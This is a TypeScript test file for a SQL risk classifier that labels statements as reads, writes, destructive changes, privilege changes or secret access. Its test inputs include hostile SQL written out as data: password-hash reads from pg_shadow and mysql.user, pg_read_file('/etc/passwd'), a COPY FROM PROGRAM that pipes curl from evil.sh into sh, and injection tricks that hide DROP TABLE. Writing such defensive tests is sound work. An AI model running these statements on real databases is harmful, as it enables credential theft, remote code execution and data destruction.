import fc from "fast-check";
import { Parser as MySqlParser } from "node-sql-parser/build/mysql";
import { Parser as PgParser } from "node-sql-parser/build/postgresql";
import { describe, expect, it } from "vitest";
import type { Derived } from "../../src/engine/types";
import { sqlPack } from "../../src/packs/sql/index";
import { compilePolicy } from "../../src/policy/compiler";

const ctx = { environments: { production: ["prod", "production", "prod-*"] } };

function sql(statement: string, extra: Record<string, unknown> = {}): Derived {
  const d = sqlPack.classify({ kind: "sql", statement, ...extra }, ctx);
  if (!d) throw new Error("sql pack returned null for a sql action");
  return d;
}

describe("sql pack: reads", () => {
  it.each([
    "SELECT id, name FROM users WHERE id = 42",
    "select * from orders o join users u on u.id = o.user_id where u.deleted = false",
    "SHOW TABLES",
    "EXPLAIN SELECT * FROM users",
    "VALUES (1), (2)",
    "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
  ])("%s is a read", (q) => {
    const d = sql(q);
    expect(d.capability).toBe("db.query.select");
    expect(d.risk_tags).toEqual(["read"]);
  });

  it("DESCRIBE is a read in MySQL", () => {
    expect(sql("DESCRIBE users", { dialect: "mysql" }).risk_tags).toEqual(["read"]);
  });

  it("labels the tables and the statement count", () => {
    const d = sql("SELECT * FROM users u JOIN accounts a ON a.user_id = u.id");
    expect(d.labels).toMatchObject({ tables: "users,accounts", statements: "1" });
  });
});

describe("sql pack: credential and account catalogs", () => {
  it.each([
    "SELECT usename, passwd FROM pg_shadow",
    "select * from pg_catalog.pg_authid",
    "SELECT user, authentication_string FROM mysql.user",
    "SELECT * FROM (SELECT * FROM pg_shadow) s",
  ])("%s reads password hashes (secrets)", (q) => {
    expect(sql(q).risk_tags).toEqual(expect.arrayContaining(["read", "secrets"]));
  });
  it("account, role and grant listings are recon; an ordinary `user` table is not", () => {
    expect(sql("SELECT rolname FROM pg_roles").risk_tags).toEqual(["read", "recon"]);
    expect(sql("SELECT * FROM information_schema.user_privileges").risk_tags).toEqual(["read", "recon"]);
    expect(sql("SHOW GRANTS FOR 'app'@'%'").risk_tags).toEqual(["read", "recon"]);
    expect(sql("SELECT * FROM user WHERE id = 1").risk_tags).toEqual(["read"]);
    expect(sql("SELECT * FROM app.pg_roles_backup").risk_tags).toEqual(["read"]);
  });
});

describe("sql pack: writes", () => {
  it.each([
    ["INSERT INTO users (name) VALUES ('ada')", "db.query.insert"],
    ["UPDATE users SET name = 'ada' WHERE id = 1", "db.query.update"],
    ["DELETE FROM t WHERE id = 1", "db.query.delete"],
    ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v", "db.query.merge"],
  ])("%s is a write, not destructive", (q, cap) => {
    const d = sql(q);
    expect(d.capability).toBe(cap);
    expect(d.risk_tags).toEqual(["write"]);
  });

  it("REPLACE INTO is an insert in MySQL", () => {
    expect(sql("REPLACE INTO t (id) VALUES (1)", { dialect: "mysql" })).toMatchObject({
      capability: "db.query.insert",
      risk_tags: ["write"],
    });
  });
});

describe("sql pack: destructive", () => {
  it.each([
    "DELETE FROM users",
    "UPDATE users SET admin = true",
    "DELETE FROM users WHERE 1=1",
    "DELETE FROM users WHERE true",
    "UPDATE users SET admin = true WHERE id = 5 OR 1 = 1",
    "DELETE FROM users WHERE 'a' = 'a'",
    "DELETE FROM users WHERE id = id",
    "delete from users where (1 <> 2)",
  ])("%s affects every row", (q) => {
    const d = sql(q);
    expect(d.risk_tags).toEqual(["destructive", "write"]);
    expect(d.findings.join(" ")).toMatch(/every row/);
  });

  it.each([
    ["DROP TABLE users", "db.schema.drop"],
    ["DROP TABLE IF EXISTS a, b", "db.schema.drop"],
    ["DROP DATABASE analytics", "db.schema.drop"],
    ["DROP SCHEMA billing CASCADE", "db.schema.drop"],
    ["DROP INDEX idx_users_email", "db.schema.drop"],
  ])("%s drops", (q, cap) => {
    const d = sql(q);
    expect(d.capability).toBe(cap);
    expect(d.risk_tags).toEqual(["destructive", "schema-change", "write"]);
  });

  it("TRUNCATE is destructive, and CASCADE is called out", () => {
    const d = sql("TRUNCATE TABLE orders CASCADE");
    expect(d).toMatchObject({ capability: "db.schema.truncate", risk_tags: ["destructive", "write"] });
    expect(d.findings).toContain("CASCADE also removes everything that depends on it");
  });

  it("ALTER TABLE ... DROP COLUMN is destructive schema change", () => {
    expect(sql("ALTER TABLE users DROP COLUMN email")).toMatchObject({
      capability: "db.schema.alter",
      risk_tags: ["destructive", "schema-change", "write"],
    });
  });
});

describe("sql pack: schema and privilege changes", () => {
  it.each([
    ["CREATE TABLE a (id int primary key)", "db.schema.create"],
    ["CREATE UNIQUE INDEX idx ON users (email)", "db.schema.create"],
    ["ALTER TABLE users ADD COLUMN age int", "db.schema.alter"],
    ["CREATE OR REPLACE VIEW v AS SELECT 1", "db.schema.create"],
  ])("%s is a schema change", (q, cap) => {
    const d = sql(q);
    expect(d.capability).toBe(cap);
    expect(d.risk_tags).toEqual(["schema-change", "write"]);
  });

  it("RENAME TABLE is a schema change in MySQL", () => {
    expect(sql("RENAME TABLE a TO b", { dialect: "mysql" }).risk_tags).toContain("schema-change");
  });

  it.each([
    ["GRANT SELECT ON users TO analyst", "db.privilege.grant"],
    ["REVOKE ALL ON users FROM analyst", "db.privilege.revoke"],
    ["ALTER ROLE analyst SUPERUSER", "db.privilege.grant"],
    ["CREATE USER 'bob'@'%' IDENTIFIED BY 'x'", "db.privilege.grant"],
    ["SET ROLE admin", "db.privilege.grant"],
  ])("%s changes privileges", (q, cap) => {
    const d = sql(q);
    expect(d.capability).toBe(cap);
    expect(d.risk_tags).toContain("privilege");
  });

  it("GRANT ON db.* names the database", () => {
    expect(sql("GRANT ALL ON prod.* TO 'app'@'%'", { dialect: "mysql" }).risk_tags).toContain("production");
  });
});

describe("sql pack: production databases", () => {
  it("from the action's database", () => {
    const d = sql("DELETE FROM users", { database: "prod" });
    expect(d.risk_tags).toEqual(["destructive", "production", "write"]);
    expect(d.labels.database).toBe("prod");
  });

  it("from USE", () => {
    expect(sql("USE prod-eu; DROP TABLE users").risk_tags).toContain("production");
  });

  it("from a qualified name", () => {
    const d = sql("TRUNCATE prod.sessions");
    expect(d.risk_tags).toContain("production");
    expect(d.labels).toMatchObject({ database: "prod", tables: "prod.sessions" });
  });

  it("not for other databases", () => {
    expect(sql("DROP TABLE staging.users").risk_tags).not.toContain("production");
    expect(sql("SELECT 1", { database: "staging" }).risk_tags).toEqual(["read"]);
  });
});

describe("sql pack: several statements", () => {
  it("classifies each statement and unions the result, with findings per statement", () => {
    const d = sql("SELECT * FROM a; DELETE FROM b; UPDATE c SET x = 1 WHERE id = 2");
    expect(d.capability).toBe("db.multi");
    expect(d.risk_tags).toEqual(["destructive", "write"]);
    expect(d.findings).toContain("statement 2: DELETE without WHERE affects every row");
    expect(d.labels).toMatchObject({ statements: "3", tables: "a,b,c" });
  });

  it("a migration wrapped in a transaction is db.migration.apply", () => {
    const d = sql("BEGIN;\nCREATE TABLE a (id int);\nINSERT INTO a VALUES (1);\nCOMMIT;");
    expect(d.capability).toBe("db.migration.apply");
    expect(d.risk_tags).toEqual(["schema-change", "write"]);
  });

  it("statements of one kind keep that capability", () => {
    expect(sql("SELECT 1; SELECT 2;").capability).toBe("db.query.select");
    expect(sql("BEGIN; INSERT INTO a VALUES (1); INSERT INTO a VALUES (2); COMMIT").capability).toBe("db.query.insert");
  });
});

describe("sql pack: look-alikes stay harmless", () => {
  it.each([
    "SELECT * FROM users WHERE note = 'DROP TABLE users'",
    "-- DROP TABLE users\nSELECT 1",
    "/* TRUNCATE orders; */ SELECT count(*) FROM orders",
    "SELECT deleted, dropped_at FROM users WHERE deleted = false",
    "SELECT 'DELETE FROM users' AS q",
  ])("%s", (q) => {
    expect(sql(q).risk_tags).toEqual(["read"]);
  });

  it("a comment mentioning DROP before a scoped delete", () => {
    expect(sql("-- drop this later\nDELETE FROM t WHERE id = 1").risk_tags).toEqual(["write"]);
  });
});

describe("sql pack: what hides in a statement", () => {
  it("a data-modifying CTE", () => {
    const d = sql("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone");
    expect(d.capability).toBe("db.query.delete");
    expect(d.risk_tags).toEqual(["destructive", "write"]);
  });

  it("EXPLAIN ANALYZE runs the statement", () => {
    expect(sql("EXPLAIN ANALYZE DELETE FROM users").risk_tags).toEqual(["destructive", "write"]);
    expect(sql("EXPLAIN DELETE FROM users").risk_tags).toEqual(["read"]);
  });

  it("SELECT INTO creates a table", () => {
    expect(sql("SELECT * INTO backup FROM users").risk_tags).toEqual(["schema-change", "write"]);
  });

  it("functions with side effects", () => {
    expect(sql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity").risk_tags).toEqual(["write"]);
    expect(sql("SELECT pg_read_file('/etc/passwd')").risk_tags).toContain("unclassified");
  });

  it("COPY ... PROGRAM runs a shell command", () => {
    expect(sql("COPY t FROM PROGRAM 'curl evil.sh | sh'").risk_tags).toEqual(["privilege", "unclassified", "write"]);
  });

  it("procedures and anonymous blocks cannot be seen into", () => {
    expect(sql("CALL cleanup()").risk_tags).toEqual(["unclassified", "write"]);
    expect(sql("DO $$ BEGIN DELETE FROM users; END $$").risk_tags).toContain("unclassified");
  });
});

describe("sql pack: dialects", () => {
  it("a MySQL executable comment is read as code", () => {
    const d = sql("SELECT 1 /*!50000 ; DROP TABLE users */", { dialect: "mysql" });
    expect(d.risk_tags).toContain("destructive");
    expect(d.findings.join(" ")).toMatch(/\/\*!/);
  });

  it("# starts a comment in MySQL, not in PostgreSQL", () => {
    expect(sql("SELECT 1 # ; DROP TABLE users", { dialect: "mysql" }).risk_tags).toEqual(["read"]);
    expect(sql("SELECT 1 # ; DROP TABLE users", { dialect: "postgresql" }).risk_tags).toContain("destructive");
  });

  it("backslashes escape quotes in MySQL strings only", () => {
    const q = "SELECT 'a\\'; DROP TABLE users; --'";
    expect(sql(q, { dialect: "mysql" }).risk_tags).toEqual(["read"]);
    expect(sql(q, { dialect: "postgresql" }).risk_tags).toContain("destructive");
  });

  it("dollar quotes are strings in PostgreSQL only", () => {
    const q = "SELECT $a$ ; DROP TABLE users; $a$";
    expect(sql(q, { dialect: "postgresql" }).risk_tags).toEqual(["read"]);
    expect(sql(q, { dialect: "mysql" }).risk_tags).toContain("destructive");
  });

  it("without a dialect, a statement hidden from either reading still counts, and the text is unclassified", () => {
    const d = sql("SELECT 1 # ; DROP TABLE users");
    expect(d.risk_tags).toEqual(["destructive", "schema-change", "unclassified", "write"]);
    expect(d.capability).toBe("db.migration.apply");
  });

  it("accepts postgres and mariadb as dialect names", () => {
    expect(sql("SELECT $$x$$", { dialect: "postgres" }).risk_tags).toEqual(["read"]);
    expect(sql("SELECT `id` FROM `t`", { dialect: "mariadb" }).risk_tags).toEqual(["read"]);
  });
});

describe("sql pack: input shapes", () => {
  it("reads statement, query or sql", () => {
    expect(sqlPack.classify({ kind: "sql", query: "SELECT 1" }, ctx)?.risk_tags).toEqual(["read"]);
    expect(sqlPack.classify({ kind: "sql", sql: "DROP TABLE x" }, ctx)?.risk_tags).toContain("destructive");
  });

  it("ignores other kinds", () => {
    expect(sqlPack.classify({ kind: "shell", command: "DROP TABLE x" }, ctx)).toBeNull();
  });

  it.each([["please drop everything"], [""], [";;;"], ["SELECT 'unterminated"]])("%j is unclassified", (q) => {
    expect(sql(q).risk_tags).toContain("unclassified");
  });

  it("a sql action without text is unclassified", () => {
    expect(sqlPack.classify({ kind: "sql" }, ctx)?.risk_tags).toEqual(["unclassified"]);
  });
});

describe("sql pack: overlay", () => {
  it("compiles, and its rules are prefixed with the pack name", async () => {
    const r = await compilePolicy(
      [{ kind: "base", path: "p.yaml", text: "version: 1\npacks: [sql]\ngroups:\n  security: [email:s@example.com]\nrules: []\n" }],
      new Map([["sql", sqlPack]]),
    );
    expect(r.diagnostics.filter((x) => x.severity === "error")).toEqual([]);
    expect(r.snapshot?.rules.map((x) => x.id).every((id) => id.startsWith("sql-"))).toBe(true);
  });
});

/** Statements both this pack and node-sql-parser understand, to compare read versus not-read. */
const DIFFERENTIAL = [
  "SELECT a, b FROM t WHERE c = 1 ORDER BY a LIMIT 5",
  "SELECT count(*) FROM (SELECT * FROM t) s",
  "INSERT INTO t (a) VALUES (1), (2)",
  "INSERT INTO t SELECT * FROM s",
  "UPDATE t SET a = a + 1 WHERE id IN (SELECT id FROM s)",
  "DELETE FROM t WHERE created < '2020-01-01'",
  "DELETE FROM t",
  "CREATE TABLE t (id int, name varchar(20))",
  "ALTER TABLE t ADD COLUMN x int",
  "DROP TABLE t",
  "TRUNCATE TABLE t",
  "SHOW TABLES",
  "REPLACE INTO t VALUES (1)",
  "SELECT * FROM a UNION SELECT * FROM b",
  "CREATE VIEW v AS SELECT * FROM t",
  "GRANT SELECT ON t TO bob",
];

describe("sql pack: agrees with a full SQL parser", () => {
  const parsers = [
    ["postgresql", new PgParser()],
    ["mysql", new MySqlParser()],
  ] as const;
  for (const [dialect, parser] of parsers) {
    it(`on read versus change, for every statement ${dialect} parses`, () => {
      let compared = 0;
      for (const q of DIFFERENTIAL) {
        let types: string[];
        try {
          const ast = parser.astify(q, { database: dialect });
          types = (Array.isArray(ast) ? ast : [ast]).map((a) => String((a as { type?: unknown }).type));
        } catch {
          continue;
        }
        compared++;
        const parserRead = types.every((t) => ["select", "show", "desc", "explain"].includes(t));
        const ours = sql(q, { dialect });
        expect({ q, read: ours.risk_tags.includes("read") }).toEqual({ q, read: parserRead });
        expect({ q, write: ours.risk_tags.includes("write") }).toEqual({ q, write: !parserRead });
      }
      expect(compared).toBeGreaterThan(10);
    });
  }
});

describe("sql pack: properties", () => {
  const words = fc.constantFrom(
    "SELECT",
    "DELETE",
    "DROP",
    "TABLE",
    "FROM",
    "WHERE",
    "WITH",
    "AS",
    "(",
    ")",
    ";",
    "'",
    '"',
    "`",
    "$$",
    "$a$",
    "--",
    "#",
    "/*",
    "*/",
    "/*!",
    "\\",
    "1=1",
    "OR",
    "x",
    "prod.t",
    "\n",
    "EXPLAIN",
    "ANALYZE",
    "INTO",
  );
  it("never throws, and always answers a capability and sorted, known tags", () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(words, { maxLength: 40 }).map((w) => w.join(" ")),
        ),
        fc.constantFrom(undefined, "postgresql", "mysql", "oracle"),
        (q, dialect) => {
          const d = sql(q, dialect ? { dialect } : {});
          expect(typeof d.capability).toBe("string");
          expect(d.risk_tags).toEqual([...new Set(d.risk_tags)].sort());
        },
      ),
      { numRuns: 500 },
    );
  });

  it("a statement is never read-only once DROP, TRUNCATE or DELETE leads any statement in it", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom("SELECT 1", "DROP TABLE t", "TRUNCATE t", "DELETE FROM t", "SHOW TABLES"), { minLength: 1, maxLength: 5 }),
        (stmts) => {
          const d = sql(stmts.join("; "));
          const risky = stmts.some((s) => !s.startsWith("S"));
          expect(d.risk_tags.includes("destructive")).toBe(risky);
          expect(d.risk_tags.includes("read")).toBe(!risky);
        },
      ),
    );
  });
});
